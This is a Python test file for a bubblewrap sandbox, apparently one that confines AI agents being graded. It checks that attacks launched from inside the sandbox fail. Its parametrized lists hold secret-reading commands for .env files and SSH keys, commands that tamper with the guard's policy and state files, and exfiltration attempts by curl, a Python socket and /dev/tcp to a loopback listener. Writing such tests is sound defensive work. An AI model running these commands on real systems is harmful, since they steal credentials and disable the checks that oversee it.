"""The bubblewrap sandbox, with real bwrap, real processes and attacks from
inside it: secrets hidden however they are named, the guard's files and the
agent's settings read-only, nothing outside visible or reachable."""

from __future__ import annotations

import os
import socket
import threading
from typing import TYPE_CHECKING

import pytest
from tests.sandbox._sandbox import Box, require_bwrap

from trajgrade.sandbox.bwrap import SandboxUnavailable, find_tools

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.slow

CANARY = "CANARY-7f3a9c"


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Box:
    require_bwrap()
    box = Box(tmp_path_factory.mktemp("box"))
    (box.project / ".env").write_text(f"TOKEN={CANARY}\n")
    (box.project / ".env.local").write_text(f"TOKEN={CANARY}\n")
    (box.project / ".env.example").write_text("TOKEN=\n")
    (box.project / "sub").mkdir()
    (box.project / "sub" / ".env").write_text(f"TOKEN={CANARY}\n")
    (box.project / "notes.txt").write_text("ordinary notes\n")
    ssh = box.home / ".ssh"
    ssh.mkdir()
    (ssh / "id_ed25519").write_text(CANARY)
    # A link made before the start, to a secret outside the project.
    outside = box.root / "elsewhere.key"
    outside.write_text(CANARY)
    (box.project / "innocent.txt").symlink_to(outside)
    return box


@pytest.mark.parametrize(
    "read",
    [
        "cat .env",
        "cat .e*",
        "cat .en?",
        "cat '.'env.local",
        "cat sub/.env",
        "cat $(printf '.e%s' nv)",
        "python3 -c \"print(open('.e'+'nv').read())\"",
        "grep -r TOKEN .",
        "tar cf - . | tar xOf -",
        "ln -s .env x && cat x",
        "ln .env hard 2>/dev/null; cat hard",
        "cp .env copy && cat copy",
        "cat innocent.txt",
        "cat /proc/self/cwd/.env",
        "cat ~/.ssh/id_ed25519",
        "ls -a ~/.ssh; cat ~/.ssh/*",
    ],
)
def test_no_spelling_of_a_secret_reads_it(box: Box, read: str) -> None:
    done = box.run(read)
    assert CANARY not in done.stdout + done.stderr


def test_a_hidden_secret_is_permission_denied_not_empty(box: Box) -> None:
    done = box.run("cat .env")
    assert done.returncode != 0
    assert "Permission denied" in done.stderr


def test_templates_named_like_secrets_stay_readable(box: Box) -> None:
    assert box.run("cat .env.example").stdout == "TOKEN=\n"


@pytest.mark.parametrize(
    "attack",
    [
        "echo 'graders: [' > policy.yaml",
        "echo x >> policy.yaml",
        "mv policy.yaml gone.yaml",
        "rm -f policy.yaml",
        "python3 -c \"open('policy.yaml','w').write('graders: []')\"",
        "touch ~/.local/state/trajgrade/forged",
        "rm -rf ~/.local/state/trajgrade",
    ],
)
def test_the_guard_files_cannot_be_changed(box: Box, attack: str) -> None:
    before = box.policy.read_text()
    box.run(attack)
    assert box.policy.read_text() == before
    assert box.state.is_dir()
    assert not (box.state / "forged").exists()


def test_the_trajgrade_installation_is_read_only(box: Box) -> None:
    import trajgrade

    target = os.path.join(os.path.dirname(trajgrade.__file__), "forged.py")
    done = box.run(f"echo 'x = 1' > {target}")
    assert done.returncode != 0
    assert not os.path.exists(target)


def test_the_outer_trajgrade_cannot_be_signalled(box: Box) -> None:
    """The pid namespace: the outer process does not exist inside."""
    done = box.run(f"kill -STOP {os.getpid()}; echo $?")
    assert done.stdout.strip() != "0"
    done = box.run("ls /proc | grep -c '^[0-9]'")
    assert int(done.stdout) < 10  # sh, socat, bwrap's init, ls, grep


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback TCP listener outside the sandbox that logs what it gets."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                got.append(conn.recv(1024) or b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], got
    stop.set()
    thread.join()
    server.close()


def test_a_loopback_listener_outside_is_unreachable(
    box: Box, listener: tuple[int, list[bytes]]
) -> None:
    port, got = listener
    attempts = (
        f"curl -sS -m 3 --noproxy '*' http://127.0.0.1:{port}/ -d {CANARY}",
        f"curl -sS -m 3 http://127.0.0.1:{port}/ -d {CANARY}",  # via the proxy
        f"curl -sS -m 3 http://localhost:{port}/ -d {CANARY}",
        f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3).send(b'{CANARY}')\"",
        f"echo {CANARY} > /dev/tcp/127.0.0.1/{port}",
    )
    for attempt in attempts:
        box.run(f"bash -c {attempt!r}" if "/dev/tcp" in attempt else attempt)
    assert got == []
    # The proxy refused the one that reached it, as an IP address not listed.
    assert any(r.host == "127.0.0.1" and r.port == port for r in box.refused)


def test_benign_calls_work(box: Box) -> None:
    done = box.run(
        "ls notes.txt && cat notes.txt && echo made > made.txt && "
        "mv made.txt moved.txt && cat moved.txt && rm moved.txt && "
        "python3 -c 'print(1)' && mkdir -p build/out && echo ok"
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "notes.txt",
        "ordinary notes",
        "made",
        "1",
        "ok",
    ]
    assert not (box.project / "moved.txt").exists()
    assert (box.project / "build" / "out").is_dir()


def test_the_tmp_of_the_host_is_not_shared(box: Box, tmp_path: Path) -> None:
    marker = tmp_path / "host-only"
    marker.write_text(CANARY)
    assert CANARY not in box.run(f"cat {marker}").stdout


def test_a_missing_bwrap_names_the_package(tmp_path: Path) -> None:
    (tmp_path / "socat").symlink_to("/usr/bin/socat")
    with pytest.raises(
        SandboxUnavailable,
        match=r"bwrap \(package bubblewrap\).*apt-get install bubblewrap",
    ):
        find_tools(str(tmp_path))


def test_a_missing_socat_names_it(tmp_path: Path) -> None:
    (tmp_path / "bwrap").symlink_to("/usr/bin/bwrap")
    with pytest.raises(SandboxUnavailable, match=r"needs socat, not found"):
        find_tools(str(tmp_path))


def test_a_bwrap_that_cannot_start_is_an_error_not_a_bare_run(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text(
        "#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n"
    )
    fake.chmod(0o755)
    (tmp_path / "socat").symlink_to("/usr/bin/socat")
    with pytest.raises(
        SandboxUnavailable, match=r"cannot create the sandbox here.*No permissions"
    ):
        find_tools(str(tmp_path))
